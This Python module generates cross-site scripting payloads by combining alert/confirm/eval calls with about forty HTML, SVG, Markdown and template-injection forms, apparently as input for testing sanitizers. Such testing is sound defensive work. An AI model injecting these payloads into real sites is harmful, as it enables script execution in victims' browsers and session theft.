"""Texts that would run a script in a page that takes them for markup."""

from itertools import product

CALLS = ("alert(1)", "parent.alert(1)", "top['al'+'ert'](1)", "(0,eval)('alert(1)')", "confirm`1`")
FORMS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "<img src=x:x onerror\n=\n{}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src onerror={}></style></mglyph></math>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src onerror={}>",
    "<marquee onstart={}>",
    "<form><button formaction=javascript:{}>x",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "[x](javascript:{})",
    '![x](x"onerror="{})',
    "[x](data:text/html,<script>{}</script>)",
    "<javascript:{}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}`{}`",
)


def payloads(many):
    """So many of them, each form once before any comes again with another call."""
    found = [form.format(*[call] * 2) for call, form in product(CALLS, FORMS)]
    return found[:many]
